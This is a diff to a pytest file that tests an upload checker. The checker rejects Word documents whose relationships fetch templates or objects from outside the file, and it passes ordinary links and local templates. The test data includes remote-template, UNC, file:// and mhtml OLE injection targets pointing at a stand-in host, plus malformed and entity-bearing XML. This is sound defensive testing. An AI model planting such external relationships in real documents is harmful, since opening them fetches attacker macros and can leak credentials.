@@ -143,6 +143,51 @@ def test_macros_and_programs_inside_are_refused(name: str, content: bytes) -> No
     assert refusal(name, content) is refusals.MACROS
 
 
+def relation(kind: str, target: str) -> bytes:
+    """A document with one relation to what lies outside of it."""
+    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    line = f'<Relationship Id="r1" Type="{types}/{kind}" Target="{target}" TargetMode="External"/>'
+    return files.office(parts={"word/_rels/settings.xml.rels": f"<Relationships>{line}</Relationships>".encode()})
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "https://evil.example/t.dotm"),
+        ("attachedTemplate", r"\\evil.example\share\t.dotm"),
+        ("attachedTemplate", "//evil.example/t.dotm"),
+        ("AttachedTemplate", "file://evil.example/t.dotm"),
+        ("attachedTemplate", r"file:///\\evil.example\t.dotm"),
+        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
+        ("frame", " http://evil.example/"),
+    ],
+)
+def test_what_fetches_a_program_when_it_is_opened_is_refused(kind: str, target: str) -> None:
+    """A template or an object from elsewhere brings its macros along."""
+    assert refusal("a.docx", relation(kind, target)) is refusals.MACROS
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("hyperlink", "https://shop.example/"),
+        ("image", "https://shop.example/logo.png"),
+        ("attachedTemplate", "file:///C:\\Users\\Ada\\Normal.dotm"),
+        ("attachedTemplate", "C:/Templates/Letter.dotx"),
+        ("attachedTemplate", "Letter.dotx"),
+    ],
+)
+def test_links_and_local_templates_are_taken(kind: str, target: str) -> None:
+    """As in documents of every office."""
+    assert check("a.docx", relation(kind, target)).name == "a.docx"
+
+
+def test_relations_that_cannot_be_read_are_refused() -> None:
+    """No XML, entities, and more than anybody has."""
+    for raw in (b"<", b"<!DOCTYPE x><x/>", b"<x>" + b" " * 1_000_000 + b"</x>"):
+        assert refusal("a.docx", files.office(parts={"word/_rels/a.xml.rels": raw})) is refusals.MISMATCH
+
+
 @pytest.mark.parametrize(
     ("name", "content"),
     [
